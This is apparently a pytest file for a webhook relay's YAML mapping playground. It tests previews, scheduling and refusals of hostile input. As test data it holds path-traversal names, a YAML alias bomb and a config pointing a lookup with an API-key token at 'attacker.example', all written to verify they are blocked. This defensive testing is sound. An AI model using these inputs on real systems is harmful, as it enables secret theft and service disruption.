"""The playground's API (POST /api/playground, /api/playground/save) and pages: a mapping's
text tried on a body, with its problems by line, the rule that chose each flow and its tests;
and what a hostile logged-in user cannot make it do: hang, answer 500, print the
environment, read or write files outside the mappings folder."""

from __future__ import annotations

import time

import pytest

from relay.web import sandbox
from tests.support.admin_app import BEARER, TOKEN, make_admin

GOOD = """\
phone: {path: body.phone, region: IN}
attributes:
  city: body.city
flows:
  - when: attributes.city == 'Pune'
    flow_key: PUNE
  - when: attributes.city == 'Mumbai'
    flow_key: MUMBAI
  - flow_key: ELSEWHERE
tests:
  - name: Mumbai goes to its flow
    body: {phone: "9812345678", city: Mumbai}
    expect: {flow_key: MUMBAI, phone: "919812345678"}
  - name: a wrong expectation
    body: {phone: "9812345678", city: Pune}
    expect: {flow_key: MUMBAI}
"""
BODY = '{"phone": "+919812345678", "city": "Mumbai"}'


@pytest.fixture
def admin(tmp_path):
    return make_admin(tmp_path)


def _try(admin, yaml, body=BODY, **more):
    return admin.client().post("/api/playground", headers=BEARER,
                               json={"name": "leads", "yaml": yaml, "body": body, **more})


class TestTrying:
    def test_a_good_mapping_previews_says_the_rule_and_runs_its_tests(self, admin):
        answer = _try(admin, GOOD)
        assert answer.status_code == 200
        tried = answer.get_json()
        assert tried["problems"] == []
        preview = tried["preview"]
        assert preview["status"] == "planned"
        assert preview["requests"][0]["url"].endswith("/flow/MUMBAI")
        assert preview["rules"] == ["rule 2: when `attributes.city == 'Mumbai'` was true; "
                                    "rule 1 `attributes.city == 'Pune'` was false"]
        assert [(t["name"], t["passed"]) for t in tried["tests"]] == [
            ("Mumbai goes to its flow", True), ("a wrong expectation", False)]
        assert "flow_key: expected 'MUMBAI', got 'PUNE'" in tried["tests"][1]["failures"]

    def test_an_error_is_reported_at_its_line(self, admin):
        """A `when` that does not compile, on line 5, is a problem of line 5."""
        broken = GOOD.replace("attributes.city == 'Pune'", "attributes.city == ")
        tried = _try(admin, broken).get_json()
        assert tried["preview"] is None
        assert [(p["line"], p["key"]) for p in tried["problems"]] == [(5, "flows[0].when")]

    def test_invalid_yaml_has_its_line(self, admin):
        tried = _try(admin, "phone: body.phone\nflows: [\n  {flow_key: A\n").get_json()
        assert tried["problems"][0]["line"] is not None
        assert tried["problems"][0]["message"].startswith("invalid YAML")

    def test_an_xml_body_with_its_content_type(self, admin):
        yaml = "phone: body.lead.phone\nflows: [{flow_key: X}]\n"
        tried = _try(admin, yaml, "<lead><phone>+919812345678</phone></lead>",
                     headers={"Content-Type": "text/xml"}).get_json()
        assert tried["preview"]["status"] == "planned"


def test_a_lookup_mapping_says_what_it_fetches_and_its_tests_take_the_answer(admin):
    """The playground makes no call: it shows the fetch, and tests with a lookup: answer
    show what the answer maps to."""
    yaml = """\
lookup: {url: 'https://api.example.com/orders/{body.id}'}
phone: {path: lookup.customer.phone, region: IN}
flows: [{flow_key: ORDER}]
tests:
  - name: an order
    body: {id: "A 1"}
    lookup: {customer: {phone: "9812345678"}}
    expect: {phone: "919812345678"}
"""
    tried = _try(admin, yaml, '{"id": "A 1"}').get_json()
    assert tried["problems"] == [] and tried["preview"]["requests"] == []
    assert tried["preview"]["lookups"] == ["https://api.example.com/orders/A%201"]
    assert tried["tests"] == [{"name": "an order", "passed": True, "failures": []}]


class TestSecrets:
    def test_the_environment_is_not_read(self, admin, monkeypatch):
        """${NAME}s stay as written; the admin token, a sender's secret and the API key are
        never in the answer."""
        monkeypatch.setenv("TYPEFORM_SECRET", "very-secret-value-123")
        monkeypatch.setenv("ENGATI_API_KEY", "the-real-api-key-456")
        yaml = ("source: typeform\nsecret: ${TYPEFORM_SECRET}\nphone: body.phone\n"
                "attributes:\n  token: {value: '${RELAY_ADMIN_TOKEN}'}\n"
                "  key: {value: '${ENGATI_API_KEY}'}\n  s: {value: '${TYPEFORM_SECRET}'}\n"
                "flows: [{flow_key: X}]\n")
        monkeypatch.setenv("RELAY_ADMIN_TOKEN", TOKEN)
        answer = _try(admin, yaml, '{"phone": "+919812345678"}')
        text = answer.get_data(as_text=True)
        assert answer.status_code == 200, text
        for secret in (TOKEN, "very-secret-value-123", "the-real-api-key-456"):
            assert secret not in text
        tried = answer.get_json()
        attributes = tried["preview"]["requests"][0]["json"]
        assert attributes["token"] == "${RELAY_ADMIN_TOKEN}"
        assert set(tried["unexpanded"]) == {"TYPEFORM_SECRET", "RELAY_ADMIN_TOKEN"}

    def test_a_test_body_outside_the_folder_is_not_read(self, admin, tmp_path):
        outside = tmp_path.parent / "outside.json"
        outside.write_text('{"phone": "+919812345678", "password": "hunter2"}')
        yaml = ("phone: body.phone\nattributes: {p: body.password}\nflows: [{flow_key: X}]\n"
                "tests:\n  - name: sneaky\n    body: ../outside.json\n"
                "    expect: {attributes: {p: nothing}}\n")
        tried = _try(admin, yaml).get_json()
        assert "hunter2" not in str(tried)
        assert "outside the mapping's folder" in tried["tests"][0]["failures"][0]


class TestHostileInput:
    def test_a_huge_yaml_is_413(self, admin):
        assert _try(admin, "a: b\n" * 20_000).status_code == 413

    def test_a_huge_body_is_413(self, tmp_path):
        admin = make_admin(tmp_path, max_body=1000)
        assert _try(admin, GOOD, "x" * 2000).status_code == 413

    def test_an_alias_bomb_is_a_problem_not_a_hang(self, admin):
        lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
        lines += [f"{chr(97 + i)}: &{chr(97 + i)} [" + ",".join([f"*{chr(96 + i)}"] * 9) + "]"
                  for i in range(1, 9)]
        tried = _try(admin, "\n".join(lines) + "\n").get_json()
        assert "aliases are expanded" in tried["problems"][0]["message"]

    def test_deep_nesting_is_a_problem(self, admin):
        tried = _try(admin, "phone: " + "[" * 3000 + "]" * 3000).get_json()
        assert "nests deeper" in tried["problems"][0]["message"]

    def test_a_pathological_expression_is_stopped(self, admin, monkeypatch):
        """An expression that doubles its work at every step is cut off: 400, saying so."""
        monkeypatch.setattr(sandbox, "SECONDS", 1.0)
        yaml = ("phone: body.phone\nattributes:\n  x: '[@,@][]" + " | [@,@][]" * 40 + "'\n"
                "flows: [{flow_key: A}]\n")
        answer = _try(admin, yaml)
        assert answer.status_code == 400
        assert "took longer than 1 seconds" in answer.get_json()["error"]

    def test_busy_is_429_at_once_not_a_wait(self, admin):
        """Every run slot taken: 429 without waiting, so no web thread is held (the
        webhooks use the same threads)."""
        held = [sandbox._slots.acquire(blocking=False) for _ in range(sandbox.RUNS)]
        try:
            assert all(held)
            started = time.monotonic()
            answer = _try(admin, GOOD)
            assert answer.status_code == 429 and time.monotonic() - started < 1.0
        finally:
            for _ in held:
                sandbox._slots.release()

    @pytest.mark.parametrize("name", ["../evil", "a/b", ".hidden", "..", "x" * 300, "a\\b"])
    def test_names_that_are_no_mapping_names_are_refused(self, admin, name):
        assert _try(admin, GOOD, name=name).status_code == 400

    @pytest.mark.parametrize("spec", [[], {"yaml": 1}, {"yaml": "", "headers": {"a": 1}},
                                      {"yaml": "", "more": True}])
    def test_malformed_requests_are_400(self, admin, spec):
        answer = admin.client().post("/api/playground", headers=BEARER, json=spec)
        assert answer.status_code == 400 and "error" in answer.get_json()

    def test_a_session_without_its_csrf_token_is_refused(self, admin):
        client = admin.logged_in()
        assert client.post("/api/playground", json={"yaml": GOOD}).status_code == 403
        answer = client.post("/api/playground", json={"yaml": GOOD},
                             headers={"X-CSRF-Token": admin.csrf(client)})
        assert answer.status_code == 200


PLAIN = "phone: body.phone\nflows: [{flow_key: ONE}]\n"


class TestSaving:
    def test_off_by_default_403_saying_how_to_turn_it_on(self, admin, tmp_path):
        answer = admin.client().post("/api/playground/save", headers=BEARER,
                                     json={"name": "new-one", "yaml": GOOD})
        assert answer.status_code == 403
        assert "RELAY_PLAYGROUND_WRITE=true" in answer.get_json()["hint"]
        assert not (tmp_path / "new-one.yaml").exists()

    def test_on_the_file_appears_and_is_served(self, tmp_path):
        admin = make_admin(tmp_path, playground_write=True)
        answer = admin.client().post("/api/playground/save", headers=BEARER,
                                     json={"name": "new-one", "yaml": GOOD})
        assert answer.status_code == 200, answer.get_data(as_text=True)
        assert answer.get_json() == {"saved": "new-one.yaml", "mapping": "new-one",
                                     "loaded": True, "error": None}
        assert (tmp_path / "new-one.yaml").read_text() == GOOD
        assert "new-one" in admin.registry.names()
        assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")] == []

    def test_a_yaml_that_does_not_load_is_not_saved(self, tmp_path):
        admin = make_admin(tmp_path, playground_write=True)
        before = (tmp_path / "leads.yaml").read_text()
        answer = admin.client().post("/api/playground/save", headers=BEARER,
                                     json={"name": "leads", "yaml": "phone: [\n"})
        assert answer.status_code == 400
        assert (tmp_path / "leads.yaml").read_text() == before

    @pytest.mark.parametrize(("yaml", "says"), [
        (PLAIN + "attributes:\n  leak: {value: '${ENGATI_API_KEY}'}\n",
         "${ENGATI_API_KEY} at attributes.leak.value would read the relay's environment"),
        (PLAIN + "engati: {base_url: 'http://attacker.example'}\n",
         "it changes the engati: settings"),
        # The token goes wherever the url points: a lookup is the file's business only.
        (PLAIN + "lookup:\n  url: http://attacker.example/{body.id}\n"
                 "  token: ${ENGATI_API_KEY}\n", "it changes the lookup: settings")])
    def test_what_would_read_the_environment_or_move_engati_is_not_saved(
            self, tmp_path, monkeypatch, yaml, says):
        """A saved file reads the real environment and calls where it says: the playground
        adds neither a ${NAME} outside secret: nor engati: settings."""
        monkeypatch.setenv("ENGATI_API_KEY", "the-real-key")  # set, as in a deployment
        admin = make_admin(tmp_path, playground_write=True)
        answer = admin.client().post("/api/playground/save", headers=BEARER,
                                     json={"name": "new-one", "yaml": yaml})
        assert answer.status_code == 403
        assert says in answer.get_json()["error"]
        assert not (tmp_path / "new-one.yaml").exists()

    def test_a_secret_and_what_the_file_had_are_saved(self, tmp_path):
        """${NAME} as the secret is fine (never shown); a file that read a variable already
        may keep reading it, where it did."""
        admin = make_admin(tmp_path, playground_write=True)
        campaign = "attributes:\n  campaign: {value: '${CAMPAIGN:-spring}'}\n"
        (tmp_path / "camp.yaml").write_text(PLAIN + campaign)
        client = admin.client()
        kept = client.post("/api/playground/save", headers=BEARER, json={
            "name": "camp", "yaml": PLAIN.replace("ONE", "TWO") + campaign})
        assert kept.status_code == 200, kept.get_data(as_text=True)
        signed = client.post("/api/playground/save", headers=BEARER, json={
            "name": "signed", "yaml": "source: typeform\nsecret: ${TYPEFORM_SECRET}\n" + PLAIN})
        assert signed.status_code == 200, signed.get_data(as_text=True)

    @pytest.mark.parametrize("name", ["../evil", "sub/evil", "..", ".x", ""])
    def test_path_traversal_names_are_refused(self, tmp_path, name):
        admin = make_admin(tmp_path / "mappings", playground_write=True)
        answer = admin.client().post("/api/playground/save", headers=BEARER,
                                     json={"name": name, "yaml": GOOD})
        assert answer.status_code == 400
        assert sorted(p.name for p in tmp_path.iterdir()) == ["mappings"]
        assert not (tmp_path / "evil.yaml").exists()


class TestPages:
    def test_download_is_an_attachment_named_after_the_mapping(self, admin):
        client = admin.logged_in()
        answer = client.post("/admin/playground/download", data={
            "csrf": admin.csrf(client), "mapping": "leads", "yaml": GOOD})
        assert answer.status_code == 200
        assert answer.headers["Content-Disposition"] == 'attachment; filename="leads.yaml"'
        assert answer.get_data(as_text=True) == GOOD

    def test_download_of_a_bad_name_is_mapping_yaml(self, admin):
        client = admin.logged_in()
        answer = client.post("/admin/playground/download", data={
            "csrf": admin.csrf(client), "mapping": '../x"y', "yaml": GOOD})
        assert answer.headers["Content-Disposition"] == 'attachment; filename="mapping.yaml"'

    def test_the_page_is_prefilled_from_the_file(self, admin, tmp_path):
        page = admin.logged_in().get("/admin/playground?mapping=leads").get_data(as_text=True)
        assert "flow_key: ABC" in page

    def test_an_event_opens_with_its_mapping_body_and_headers(self, admin):
        event_id = admin.client().post("/hooks/leads", json={"phone": "+919812345678"},
                                       headers={"X-Sender": "crm"}).get_json()["event_id"]
        page = admin.logged_in().get(f"/admin/playground?event={event_id}").get_data(
            as_text=True)
        assert "flow_key: ABC" in page and "+919812345678" in page and "x-sender: crm" in page
        assert admin.logged_in().get("/admin/playground?event=999").status_code == 404

    def test_without_javascript_the_form_shows_the_result(self, admin):
        client = admin.logged_in()
        page = client.post("/admin/playground", data={
            "csrf": admin.csrf(client), "mapping": "leads", "yaml": GOOD, "body": BODY,
            "headers": ""}).get_data(as_text=True)
        assert "rule 2: when" in page and "MUMBAI" in page and "passed" in page


SCHEDULED = """\
phone: {path: body.phone, region: IN}
schedule: {at: body.starts, offset: -1h, key: body.id}
quiet_hours: {from: "21:00", to: "09:00"}
cancel: {key: body.id, mappings: [reminders], when: body.cancelled}
filter: "!(body.cancelled)"
flows:
  - flow_key: REMIND
"""
STARTS = '{"phone": "9812345678", "id": "b1", "starts": "2026-12-03T12:00:00+05:30"}'


class TestTimes:
    def test_the_preview_says_when_and_why_as_of_now(self, admin):
        """`now` (UNIX seconds) is the arrival time; each request says when it goes, why,
        and the time it assumed."""
        tried = _try(admin, SCHEDULED, STARTS, now=1796292000).get_json()  # 10:00 UTC
        preview = tried["preview"]
        assert preview["now"] == "2026-12-03T10:00:00Z"
        assert preview["times"] == [{
            "send_at": None, "why": "at body.starts (2026-12-03T06:30:00Z) - 1h, which had "
            "passed: at once (if_past: send)", "text": "at once: at body.starts "
            "(2026-12-03T06:30:00Z) - 1h, which had passed: at once (if_past: send)"}]
        early = _try(admin, SCHEDULED, STARTS, now=1796263200).get_json()["preview"]  # 02:00Z
        assert early["times"][0]["send_at"] == "2026-12-03T05:30:00Z"
        assert early["times"][0]["text"] == (
            "2026-12-03T05:30:00Z, in 3h30m (at body.starts (2026-12-03T06:30:00Z) - 1h)")
        assert early["cancels"] == []

    def test_quiet_hours_in_the_recipients_zone(self, admin):
        night = '{"phone": "9812345678", "id": "b1", "starts": "2026-12-03T23:00:00+05:30"}'
        preview = _try(admin, SCHEDULED, night, now=1796263200).get_json()["preview"]
        assert preview["times"][0]["send_at"] == "2026-12-04T03:30:00Z"
        assert "quiet hours 21:00-09:00 in Asia/Calcutta: waits until 2026-12-04 09:00 IST" in (
            preview["times"][0]["why"])

    def test_what_the_body_cancels(self, admin):
        preview = _try(admin, SCHEDULED, '{"id": "b1", "cancelled": true}').get_json()["preview"]
        assert (preview["status"], preview["requests"]) == ("planned", [])
        assert preview["cancels"] == [{
            "key": "b1", "mappings": ["reminders"], "keep": 86400.0,
            "text": "cancels key 'b1' of reminders (pending deliveries now, and those arriving "
                    "within 1d)"}]

    @pytest.mark.parametrize("now", ["2026-12-03T10:00:00Z", True, -5, 4e10])
    def test_a_now_that_is_no_unix_time_is_400(self, admin, now):
        answer = _try(admin, SCHEDULED, STARTS, now=now)
        assert answer.status_code == 400
        assert "now must be UNIX seconds" in answer.get_json()["error"]

    def test_without_javascript_the_arrival_time_is_read_as_written(self, admin):
        """The page's "Arrives at" field takes ISO 8601 (or epoch seconds); a wrong one is
        said, not a 500."""
        client = admin.logged_in()
        form = {"csrf": admin.csrf(client), "mapping": "leads", "yaml": SCHEDULED,
                "body": STARTS, "headers": "", "now": "2026-12-03T07:30:00+05:30"}
        page = client.post("/admin/playground", data=form).get_data(as_text=True)
        assert "request 1: 2026-12-03T05:30:00Z, in 3h30m" in page
        page = client.post("/admin/playground", data={**form, "now": "soon"}).get_data(
            as_text=True)
        assert "Arrives at: &#39;soon&#39; is not an ISO 8601 time" in page

    def test_an_event_opens_with_its_arrival_time(self, admin):
        event_id = admin.client().post("/hooks/leads", json={"phone": "+919812345678"}
                                       ).get_json()["event_id"]
        received = admin.store.event(event_id)["received_at"]
        page = admin.logged_in().get(f"/admin/playground?event={event_id}").get_data(
            as_text=True)
        stamp = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(received))
        assert f'name="now" id="now" value="{stamp}"' in page
